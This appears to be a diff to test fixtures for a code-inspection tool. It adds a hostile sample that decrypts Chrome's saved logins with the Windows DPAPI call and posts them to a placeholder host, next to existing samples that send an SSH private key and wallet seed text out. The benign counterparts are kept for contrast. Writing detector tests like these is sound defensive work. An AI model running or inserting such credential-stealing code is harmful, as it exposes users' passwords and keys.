@@ -3,6 +3,11 @@
 from inspection.rules.sample import Sample, js, py
 
 _KEY = "import pathlib, requests\nkey = (pathlib.Path.home() / '.ssh' / 'id_rsa').read_text()\n"
+_SEALED = (
+    "import os, sqlite3\nimport requests, win32crypt\nbase = os.path.join(os.environ['LOCALAPPDATA'], {place})\n"
+    "for (data,) in sqlite3.connect(base).execute('select a from b'):\n"
+    "    requests.post('https://a.invalid', data=win32crypt.CryptUnprotectData(data, None, None, None, 0)[1])\n"
+)
 _RESTORE = (
     "import {{ useState }} from 'react';\nimport {{ Wallet }} from 'ethers';\nexport function Restore() {{\n"
     "  const [typed, setTyped] = useState('');\n  const go = () => {{\n"
@@ -20,6 +25,9 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "a key of the machine in a field that is called like a login": py(
             _KEY + "requests.post('https://a.invalid', json={'to': 'a', 'auth': key})\n", line=3
         ),
+        "what a browser had Windows seal": py(
+            _SEALED.format(place="'Google', 'Chrome', 'User Data', 'Default', 'Login Data'"), line=5
+        ),
         "what a visitor types and a wallet is made of": js(_RESTORE.format(text="typed"), line=7),
         "what a class of its own makes an account of": py(_ACCOUNT.format(sent="key"), line=8),
     },
@@ -31,6 +39,7 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             "app.py": _KEY.replace("'.ssh' / 'id_rsa'", "'.netrc'")
             + "requests.post('https://a.invalid', json={'to': 'a'}, auth=('me', key))\n"
         },
+        "what the program itself had Windows seal": {"app.py": _SEALED.format(place="'alerts', 'coins.sqlite'")},
         "how much a visitor types of what a wallet is made of": {"app.js": _RESTORE.format(text="typed.length")},
         "the address of what a class of its own makes": {"app.py": _ACCOUNT.format(sent="account.address")},
     },
